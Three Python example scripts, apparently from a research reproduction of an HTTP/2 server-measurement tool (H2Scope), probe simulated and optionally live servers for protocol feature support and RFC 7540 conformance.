def parse_target(value: str) -> tuple[str, int]:
    host, _, port = value.rpartition(":")
    if not host:
        raise SystemExit(f"target must be HOST:PORT, got {value!r}")
    try:
        return host, int(port)
    except ValueError:
        raise SystemExit(f"bad port in target {value!r}") from None


def reachable(host: str, port: int, timeout: float = 3.0) -> bool:
    try:
        with socket.create_connection((host, port), timeout=timeout):
            return True
    except OSError:
        return False


def print_matrix_row(domain: str, cells: dict[str, str]) -> None:
    width = max(len(row) for row in ROWS)
    print(f"\nTable III feature-matrix column for {domain}:")
    for row in ROWS:
        print(f"  {row:<{width}}  {cells.get(row, '-')}")


def probe_address(
    domain: str, host: str, port: int, timeout_scale: float
) -> dict[str, str]:
    def resolve(name: str, target_port: int):
        if name != domain:
            return None
        if target_port == 443:
            return (host, port)
        if target_port == 80:
            # Best-effort cleartext guess for the h2c-upgrade probe;
            # a refused connection degrades to "no support".
            return (host, 80)
        return None

    backend = SocketBackend(resolver=resolve, timeout_scale=timeout_scale)
    try:
        return matrix_cells(ProbeSession(backend), domain)
    finally:
        backend.close()


def loopback_demo(timeout_scale: float) -> int:
    from repro.servers.loopback import LoopbackBridge
    from repro.servers.site import Site
    from repro.servers.vendors import VENDOR_FACTORIES
    from repro.servers.website import testbed_website

    print("no target given: probing the simulated Nginx engine served")
    print("over a real loopback TCP socket (repro.servers.loopback)")
    with LoopbackBridge(seed=0) as bridge:
        addresses = bridge.serve(
            Site(
                domain="nginx.testbed",
                profile=VENDOR_FACTORIES["nginx"](),
                website=testbed_website(),
            )
        )
        host, port = addresses[("nginx.testbed", 443)]
        print(f"serving nginx.testbed at {host}:{port}")
        backend = SocketBackend(
            resolver=bridge.resolver(), timeout_scale=timeout_scale
        )
        try:
            cells = matrix_cells(ProbeSession(backend), "nginx.testbed")
        finally:
            backend.close()
    print_matrix_row("nginx.testbed", cells)
    return 0


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument(
        "target", nargs="?", help="HOST:PORT of a live HTTP/2 server"
    )
    parser.add_argument(
        "--domain",
        help="name to offer in the TLS hello / :authority (default: the host)",
    )
    parser.add_argument(
        "--timeout-scale",
        type=float,
        default=0.25,
        help="multiplier on the simulation-tuned probe timeouts "
        "(default 0.25: 8 s reaction windows become 2 s)",
    )
    args = parser.parse_args(argv)

    if args.target is None:
        return loopback_demo(args.timeout_scale)

    host, port = parse_target(args.target)
    domain = args.domain or host
    if not reachable(host, port):
        print(f"skipping: {host}:{port} is unreachable from here")
        return 0

    print(f"probing {domain} at {host}:{port} over real sockets ...")
    cells = probe_address(domain, host, port, args.timeout_scale)
    print_matrix_row(domain, cells)
    return 0


if __name__ == "__main__":
    sys.exit(main())
