#!/usr/bin/env python
"""Run the h2spec-style RFC 7540 conformance suite against all vendors.

Table III is, at heart, a conformance report; this example produces the
formalized version: per-RFC-section checks with MUST/SHOULD levels, one
report per server model, and the headline finding — *no implementation
is fully conformant* ("not all implementations strictly follow RFC
7540").

Run with::

    python examples/rfc_conformance.py [vendor]
"""

import sys

from repro.net.clock import Simulation
from repro.net.transport import Network
from repro.scope.conformance import Verdict, run_conformance
from repro.servers.site import Site, deploy_site
from repro.servers.vendors import VENDOR_FACTORIES
from repro.servers.website import testbed_website


def main() -> None:
    names = sys.argv[1:] or list(VENDOR_FACTORIES)
    failures_by_vendor = {}
    for name in names:
        sim = Simulation()
        network = Network(sim, seed=0)
        site = Site(
            domain=f"{name}.testbed",
            profile=VENDOR_FACTORIES[name](),
            website=testbed_website(),
        )
        deploy_site(network, site)
        report = run_conformance(
            network,
            site.domain,
            large_path="/large/0.bin",
            multiplex_paths=[f"/large/{i}.bin" for i in range(3)],
        )
        print(report.summary())
        failures_by_vendor[name] = sum(
            1 for r in report.results if r.verdict is Verdict.FAIL
        )

    ranking = sorted(failures_by_vendor.items(), key=lambda kv: kv[1])
    print("conformance ranking (fewest failed checks first):")
    for name, failures in ranking:
        print(f"  {name:10s} {failures} failed check(s)")


if __name__ == "__main__":
    main()
