#!/usr/bin/env python
"""Quickstart: deploy one HTTP/2 server and probe it with H2Scope.

This walks the three layers of the library:

1. build a simulated origin (an Nginx behaviour profile serving a
   small site);
2. talk to it at the frame level with a :class:`ScopeClient`;
3. run the full probe suite with :func:`scan_site` and read the report.

Run with::

    python examples/quickstart.py
"""

from repro.h2 import events as ev
from repro.net import Network, Simulation
from repro.scope import ScopeClient, scan_site
from repro.servers import Site, deploy_site, vendors
from repro.servers.website import testbed_website


def manual_probe() -> None:
    """Drive one connection by hand: TLS, a request, and a PING."""
    sim = Simulation()
    network = Network(sim, seed=1)
    site = Site(
        domain="nginx.example",
        profile=vendors.nginx(),
        website=testbed_website(),
    )
    deploy_site(network, site)

    client = ScopeClient(network, "nginx.example", auto_window_update=True)
    assert client.establish_h2()
    print(f"negotiated {client.tls.chosen!r} via {client.tls.mechanism}")

    stream_id = client.request("/")
    client.wait_for(lambda: client.headers_for(stream_id) is not None)
    headers = dict(client.headers_for(stream_id).headers)
    print(f"GET / -> :status={headers[b':status'].decode()}, "
          f"server={headers[b'server'].decode()}")

    start = sim.now
    client.send_ping(b"example!")
    client.wait_for(
        lambda: any(isinstance(te.event, ev.PingAckReceived) for te in client.events)
    )
    print(f"HTTP/2 PING round trip: {(sim.now - start) * 1000:.1f} ms")
    client.close()


def full_scan() -> None:
    """Run every probe of Section III against the same origin."""
    site = Site(
        domain="nginx.example",
        profile=vendors.nginx(),
        website=testbed_website(),
    )
    report = scan_site(
        site,
        priority_test_paths=[f"/large/{i}.bin" for i in range(6)],
        priority_depletion_paths=[f"/medium/{i}.bin" for i in range(4)],
    )
    print()
    print(f"full H2Scope report for {report.domain}:")
    print(f"  ALPN h2: {report.negotiation.alpn_h2}, NPN h2: {report.negotiation.npn_h2}")
    print(f"  announced SETTINGS: {report.settings.announced}")
    print(f"  Sframe=1 behaviour: {report.flow_control.tiny_window.value}")
    print(f"  zero WINDOW_UPDATE on stream: {report.flow_control.zero_update_stream.value}")
    print(f"  Algorithm 1 (priority): "
          f"{'pass' if report.priority.passes_algorithm1 else 'fail'}")
    print(f"  self-dependent stream: {report.priority.self_dependency.value}")
    print(f"  server push: {report.push.push_received}")
    print(f"  HPACK compression ratio r: {report.hpack.ratio:.3f} "
          "(Nginx never indexes response headers, so r == 1)")
    print(f"  PING RTT: {report.ping.h2_ping_rtt * 1000:.1f} ms "
          f"vs ICMP {report.ping.icmp_rtt * 1000:.1f} ms")


if __name__ == "__main__":
    manual_probe()
    full_scan()
